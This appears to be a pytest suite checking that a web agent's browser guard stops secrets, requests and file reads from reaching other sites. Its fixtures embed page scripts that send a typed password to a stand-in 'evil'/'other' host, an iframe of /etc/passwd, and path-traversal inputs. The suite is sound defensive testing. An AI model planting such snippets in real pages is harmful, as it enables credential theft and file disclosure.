"""What a guarded episode may still do, what it is told, and how it ends."""

import asyncio
import os
from collections.abc import Callable, Sequence
from dataclasses import replace

import psutil
import pytest

from tasks.task import PageHooks, Task
from tests.fakes.policy import ScriptedPolicy
from tests.webagent.browser.enforcement.injection.attacks import ATTACKS
from tests.webagent.browser.enforcement.injection.obedient import Obedient
from tests.webagent.browser.enforcement.injection.sites import EVIL, OTHER, PASSWORD, SHOP, Sites
from tests.webagent.browser.enforcement.injection.test_injection import breaches, names
from webagent.action import GiveUp
from webagent.action import actions as act
from webagent.action.actions import Action
from webagent.browser import Browser, BrowserWorld
from webagent.browser.enforcement.enforce import match_all_but
from webagent.browser.sessions.profile import Profile
from webagent.errors import WorldError
from webagent.guard import DownloadLimits, Guard, GuardPolicy, SiteRule, UploadLimits, parse_site
from webagent.records import Ending, Observation, Trajectory
from webagent.rollout import run_episode

pytestmark = pytest.mark.browser
UnderPolicy = Callable[[GuardPolicy], Browser]


@pytest.fixture
def under(guarded: Browser, guard: Guard, monkeypatch: pytest.MonkeyPatch) -> UnderPolicy:
    """The guarded browser, held to another policy for this test."""

    def hold(policy: GuardPolicy) -> Browser:
        monkeypatch.setattr(guarded, "guard", replace(guard, policy=policy))
        return guarded

    return hold


def task(sites: Sites, page: str = "", **fields: object) -> Task:
    """A task on a page of the shop."""
    sites.page = sites.spelt(page)
    return Task("shop/task@1", f"http://{SHOP}:{sites.port}/", clock="real", **fields)  # type: ignore[arg-type]


async def episode(browser: Browser, on: Task, *actions: Action) -> Trajectory:
    """The actions, one after the other, as an episode."""
    world = await browser.world()
    steps = iter((*actions, GiveUp()))
    try:
        return await run_episode(on, ScriptedPolicy(lambda trajectory, page: next(steps)), world)
    finally:
        await world.close()


async def seen_after(browser: Browser, on: Task, *actions: Action) -> Observation:
    """What is to be seen after the last of the actions."""
    world = await browser.world()
    try:
        page = await world.reset(on)
        for action in actions:
            page = await world.step(action)
        return page
    finally:
        await world.close()


def refusals(trajectory: Trajectory) -> Sequence[object]:
    """The rules that refused something, in order."""
    kept = trajectory.evidence["guard"]
    assert isinstance(kept, dict) and isinstance(kept["refusals"], list)
    assert kept["refused"] == len(kept["refusals"])
    return [each["rule"] for each in kept["refusals"] if isinstance(each, dict)]


FORM = (
    "<form method=post action=/take><label>Password <input name=p type=password></label>"
    "<button>Send</button></form><p id=e></p>"
    "<script>const i = document.querySelector('input');"
    "i.oninput = () => e.textContent = i.value</script>"
)


async def test_a_secret_reaches_its_own_site_and_is_never_seen(guarded, sites):
    on = task(sites, FORM, evidence={"echo": "document.getElementById('e')?.textContent"})
    page = await seen_after(guarded, on, act.Fill(1, "<secret:shop_password>"))
    field = page.node(1)
    assert field is not None and field.value == "<secret:shop_password>"
    assert [node.name for node in page.nodes][-1] == "<secret:shop_password>"
    assert PASSWORD not in repr(page)
    filled = await episode(guarded, on, act.Fill(1, "<secret:shop_password>"))
    assert filled.evidence["echo"] == "<secret:shop_password>"
    await seen_after(guarded, on, act.Fill(1, "<secret:shop_password>"), act.Click(2))
    assert [PASSWORD in each.text for each in sites.arrivals if each.path == "/take"] == [True]


SOCKET = (
    "<label>Password <input id=p></label><script>const s = new WebSocket('ws://@OTHER_HOST@/live');"
    "s.onmessage = () => document.title = 'heard'; s.onclose = () => document.title = 'closed';"
    "s.onopen = () => s.send('hello'); p.oninput = () => s.send(CODE)</script>"
)


@pytest.mark.parametrize(
    "code", ["p.value", "btoa('me:' + p.value)", "new TextEncoder().encode(p.value)"]
)
async def test_a_web_socket_to_another_site_passes_messages_but_no_secret(
    under, policy, sites, code
):
    talking = tuple(replace(rule, web_sockets=True) for rule in policy.sites)
    on = task(sites, SOCKET.replace("CODE", code))
    world = await under(replace(policy, sites=talking)).world()
    try:
        page = await world.reset(on)
        while page.title != "heard":
            page = await world.step(act.Wait(50))
        page = await world.step(act.Fill(1, "<secret:shop_password>"))
        while page.title != "closed":
            page = await world.step(act.Wait(50))
    finally:
        await world.close()
    said = [each.text for each in sites.arrivals if each.method == "MESSAGE"]
    assert said == ["hello"]


@pytest.mark.parametrize("strict", [False, True])
async def test_a_page_with_a_strict_secret_talks_to_its_own_site_alone(
    under, policy, sites, strict
):
    page = (
        "<label>Password <input id=p></label><script>"
        "const s = new WebSocket('ws://@OTHER_HOST@/live'); s.onopen = () => s.send('hello');"
        "const send = (to) => fetch(to, {mode: 'no-cors'}); send('@OTHER@/before');"
        "p.oninput = () => { send('@OTHER@/' + p.value.length); send('@SHOP@/own');"
        " s.send(p.value.length) }</script>"
    )
    own = {name: replace(each, strict=strict) for name, each in policy.secrets.items()}
    talking = tuple(replace(rule, web_sockets=True) for rule in policy.sites)
    browser = under(replace(policy, secrets=own, sites=talking))
    fill = act.Fill(1, "<secret:shop_password>")
    trajectory = await episode(browser, task(sites, page), act.Wait(300), fill, act.Wait(300))
    length = len(PASSWORD)
    found = {each.path if each.method == "GET" else each.text for each in sites.arrivals}
    assert {"/before", "/own", "hello"} <= found
    assert ({f"/{length}", str(length)} & found == set()) == strict
    assert set(refusals(trajectory)) == ({"strict"} if strict else set())


@pytest.mark.parametrize("unsearchable", ["deny", "allow"])
async def test_what_cannot_be_searched_goes_to_other_sites_only_where_it_is_allowed(
    under, policy, sites, unsearchable
):
    sends = "(to) => fetch(to, {method:'POST', mode:'no-cors', body:'x'.repeat(1500000)})"
    page = (
        "<label>Password <input id=p></label><script>const send = SENDS; send('@OTHER@/before');"
        "p.oninput = () => { send('@OTHER@/after'); send('@SHOP@/own') }</script>"
    )
    on = task(sites, page.replace("SENDS", sends))
    browser = under(replace(policy, unsearchable=unsearchable))
    trajectory = await episode(browser, on, act.Fill(1, "<secret:shop_password>"), act.Wait(500))
    came = {each.path for each in sites.arrivals} - {"/"}
    is_allowed = unsearchable == "allow"
    assert came == {"/before", "/own"} | ({"/after"} if is_allowed else set())
    assert refusals(trajectory) == ([] if is_allowed else ["unsearchable"])


class Person:
    """Says yes, and remembers the question."""

    asked = ""

    async def approve(self, question: str) -> bool:
        """Yes."""
        self.asked = question
        return True


async def test_a_persons_yes_is_asked_for_and_holds(guarded, guard, sites, monkeypatch):
    person = Person()
    monkeypatch.setattr(guarded, "guard", replace(guard, approver=person))
    on = task(sites, "<button onclick=\"fetch('/buy', {method:'POST'})\">Buy now</button>")
    page = await seen_after(guarded, on, act.Click(1))
    assert not page.outcome.startswith("refused")
    assert "/buy" in [each.path for each in sites.arrivals]
    assert "click(1" in person.asked and "'Buy now'" in person.asked


async def test_a_refused_link_leaves_the_page_and_says_why(guarded: Browser, sites: Sites) -> None:
    for link in ("@EVIL@/x", "@OTHER@/to?u=@EVIL@/x"):
        page = await seen_after(guarded, task(sites, f"<a href='{link}'>Go</a>"), act.Click(1))
        assert page.url == f"http://{SHOP}:{sites.port}/"
        assert page.outcome == f"refused: no rule opens http://{EVIL}:{sites.port}"


async def test_many_refused_parts_are_told_as_one(guarded: Browser, sites: Sites) -> None:
    parts = "".join(f"<img src='@EVIL@/{n}'>" for n in range(5))
    page = await seen_after(guarded, task(sites, parts))
    assert page.outcome == f"refused 5 requests: no rule opens http://{EVIL}:{sites.port}"


@pytest.mark.parametrize(
    ("page", "action", "ending"),
    [
        ("", act.Goto("@EVIL@/x"), Ending.GUARD_REFUSED),
        ("<a href='@EVIL@/x'>Go</a>", act.Click(1), Ending.GUARD_REFUSED),
        ("<img src='@EVIL@/x'>", act.Wait(100), Ending.GAVE_UP),
        ("<iframe src='@EVIL@/x'></iframe>", act.Wait(100), Ending.GAVE_UP),
    ],
)
async def test_a_refusal_ends_the_episode_where_the_policy_wants_it(
    under, policy, sites, page, action, ending
):
    browser = under(replace(policy, on_refusal="end"))
    if isinstance(action, act.Goto):
        action = act.Goto(sites.spelt(action.url))
    trajectory = await episode(browser, task(sites, page), action)
    assert trajectory.ending is ending
    assert refusals(trajectory) == ["other_sites"]
    assert (ending is Ending.GUARD_REFUSED) == ("refused" in trajectory.error)


async def test_a_policy_that_closes_the_tasks_own_page_ends_it_as_refused(under, sites):
    closed = SiteRule(parse_site(f"http://{SHOP}:{sites.port}/other"))
    trajectory = await episode(under(GuardPolicy(sites=(closed,))), task(sites))
    assert trajectory.ending is Ending.GUARD_REFUSED
    assert trajectory.error.startswith("the guard blocks the task's own page")
    assert not [each for each in sites.arrivals if each.site == SHOP]


async def test_episodes_at_the_same_time_are_held_to_their_own_task(under, sites):
    browser = under(GuardPolicy())
    at_other = replace(task(sites), start_url=f"http://{OTHER}:{sites.port}/a")
    both = await asyncio.gather(
        episode(browser, task(sites), act.Goto(f"http://{OTHER}:{sites.port}/from-shop")),
        episode(browser, at_other, act.Goto(f"http://{SHOP}:{sites.port}/from-other")),
    )
    assert [refusals(each) for each in both] == [["other_sites"], ["other_sites"]]
    assert not [each for each in sites.arrivals if each.path.startswith("/from")]


async def test_a_prepared_page_is_held_to_its_own_task(under: UnderPolicy, sites: Sites) -> None:
    world = await under(GuardPolicy()).world()
    at_other = replace(task(sites), start_url=f"http://{OTHER}:{sites.port}/a")
    await world.prepare(at_other)
    await world.reset(at_other)
    await world.prepare(task(sites, "<p>Shop"))
    assert (await world.reset(task(sites, "<p>Shop"))).nodes[0].name == "Shop"
    refused = await world.step(act.Goto(at_other.start_url))
    assert refused.outcome == f"refused: no rule opens http://{OTHER}:{sites.port}"
    await world.close()


async def test_an_open_file_is_uploaded(under, policy, sites, tmp_path):
    (tmp_path / "letter.txt").write_text("Dear shop")
    browser = under(replace(policy, uploads=UploadLimits((tmp_path.resolve(),))))
    upload = "<input type=file onchange=\"fetch('/up', {method:'POST', body:this.files[0]})\">"
    on = task(sites, upload)
    page = await seen_after(browser, on, act.UploadFile(1, str(tmp_path / "letter.txt")))
    assert not page.outcome.startswith("refused")
    assert "Dear shop" in "".join(each.text for each in sites.arrivals)


@pytest.mark.parametrize("clock", ["virtual", "real"])
async def test_a_page_on_disk_reaches_its_own_folder_and_no_other(under, sites, tmp_path, clock):
    folder = tmp_path / "open"
    folder.mkdir()
    (tmp_path / "key.html").write_text("<p>PRIVATE KEY")
    (folder / "next.html").write_text("<p>Next")
    (folder / "link.html").symlink_to(tmp_path / "key.html")
    (folder / "page.html").write_text(
        f"<a href=next.html>Next</a><a href=../key.html>Key</a><a href=link.html>Link</a>"
        f"<iframe src=../key.html></iframe><iframe src=file:///etc/passwd></iframe>"
        f"<img src='http://{EVIL}:{sites.port}/x'>"
    )
    on = Task("file/page@1", (folder / "page.html").as_uri(), clock=clock)
    pages = [
        await seen_after(under(GuardPolicy()), on, *([act.Click(n)] if n else [])) for n in range(4)
    ]
    assert "PRIVATE KEY" not in repr(pages) and "root:x" not in repr(pages)
    assert [node.name for node in pages[1].nodes] == ["Next"]
    assert [page.url for page in pages[2:]] == [pages[0].url] * 2
    assert all("lies in no open folder" in page.outcome for page in pages[2:])
    assert not sites.arrivals


_UNDER_VIRTUAL_TIME = [
    attack
    for attack in ATTACKS
    if attack.name
    in ("loads a picture", "beacon", "web socket", "link", "window", "form", "refresh")
]


@pytest.mark.sample(3)
@pytest.mark.parametrize("attack", _UNDER_VIRTUAL_TIME, ids=names)
async def test_the_guard_holds_while_time_is_virtual(guarded, sites, attack):
    world = await guarded.world()
    on = replace(task(sites, attack.page), clock="virtual")
    trajectory = await run_episode(on, Obedient(attack.wait_ms, {}), world)
    await world.close()
    assert breaches(sites, trajectory) == []
    assert refusals(trajectory)
    assert trajectory.ending is Ending.GAVE_UP


def listening() -> set[int]:
    """Ports this process listens on."""
    connections = psutil.Process(os.getpid()).net_connections("tcp")
    return {each.laddr.port for each in connections if each.status == psutil.CONN_LISTEN}


async def test_no_proxy_outlives_its_episode(guarded: Browser, sites: Sites) -> None:
    before = listening()
    world: BrowserWorld = await guarded.world()
    await world.reset(task(sites))
    assert listening() > before
    await world.close()
    assert listening() <= before


async def test_a_failure_of_the_page_is_told_without_its_secrets(guarded, sites):
    throws = PageHooks(goal=f"(() => {{ throw Error({PASSWORD!r}) }})()")
    with pytest.raises(WorldError) as raised:
        await seen_after(guarded, task(sites, "<p>Shop", hooks=throws))
    assert "<secret:shop_password>" in str(raised.value)
    assert PASSWORD not in str(raised.value)


@pytest.mark.parametrize(
    ("tail", "is_judged"),
    [
        ("page.html", False),
        ("a/b.js?x=..", False),
        ("../key", True),
        ("a/../../key", True),
        ("%2e%2e/key", True),
        ("a%2fb", True),
    ],
)
def test_only_plain_files_of_our_own_folders_go_unjudged(tmp_path, tail, is_judged):
    judged = match_all_but([tmp_path])
    assert bool(judged.search(f"{tmp_path.as_uri()}/{tail}")) == is_judged
    assert judged.search(f"{tmp_path.as_uri()}-other/page.html")
    assert judged.search(f"http://{EVIL}/?{tmp_path.as_uri()}/{tail}")
    assert match_all_but([]).search(f"{tmp_path.as_uri()}/{tail}")


@pytest.mark.parametrize(
    ("terms", "kept"),
    [
        (DownloadLimits(), False),
        (DownloadLimits(True), True),
        (DownloadLimits(True, (".html",)), True),
        (DownloadLimits(True, (".pdf",)), False),
        (DownloadLimits(True, max_bytes=10), False),
    ],
)
async def test_a_download_is_kept_only_where_it_is_open(
    under, policy, sites, tmp_path, terms, kept
):
    browser = under(replace(policy, downloads=terms))
    world = await browser.world(profile=Profile(downloads=tmp_path / "kept"))
    await world.reset(task(sites, "<a href='/bill.html' download>Go</a>"))
    page = await world.step(act.Click(1))
    await world.close()
    assert [each.name for each in tmp_path.rglob("bill*")] == (["bill.html"] if kept else [])
    assert ("refused" in page.outcome) != kept


async def test_what_is_open_works_as_without_a_guard(under, policy, sites):
    named = SiteRule(parse_site(f"http://evil.test:{sites.port}"), web_sockets=True)
    browser = under(replace(policy, sites=(named,), actions=()))
    page = (
        "<script>new WebSocket('ws://@SHOP_HOST@/socket');"
        f"new WebSocket('ws://evil.test:{sites.port}/socket');"
        f"fetch('http://evil.test:{sites.port}/named', {{method:'PUT', body:'x'.repeat(100000)}})"
        ".then((r) => r.text()).then((t) => document.title = 'answered');"
        "navigator.sendBeacon('/beacon', 'a'); new EventSource('/events')</script>"
    )
    seen = await seen_after(browser, task(sites, page), act.Wait(300))
    assert (seen.title, seen.outcome.count("refused")) == ("answered", 0)
    came = {(each.site, each.method, each.path) for each in sites.arrivals}
    assert came >= {
        (SHOP, "GET", "/socket"),
        (EVIL, "GET", "/socket"),
        (EVIL, "OPTIONS", "/named"),
        (SHOP, "POST", "/beacon"),
        (SHOP, "GET", "/events"),
    }


async def test_a_site_is_asked_before_another_sends_it_what_no_form_could(under, policy, sites):
    sends = (
        "{method:'DELETE'}",
        "{method:'POST', headers:{'X-Csrf':'1'}, body:'x'}",
        "{method:'PUT'}",
    )
    page = "".join(
        f"<script>fetch('@OTHER@/{n}', {options}).catch(() => 0)</script>"
        for n, options in enumerate(sends)
    )
    anything = tuple(replace(rule, methods=()) for rule in policy.sites)
    browser = under(replace(policy, sites=anything))
    trajectory = await episode(browser, task(sites, page), act.Wait(500))
    came = sorted(f"{each.method} {each.path}" for each in sites.arrivals if each.site == OTHER)
    assert came == ["OPTIONS /0", "OPTIONS /1", "OPTIONS /2", "PUT /2"]
    assert refusals(trajectory) == ["CORS", "CORS"]
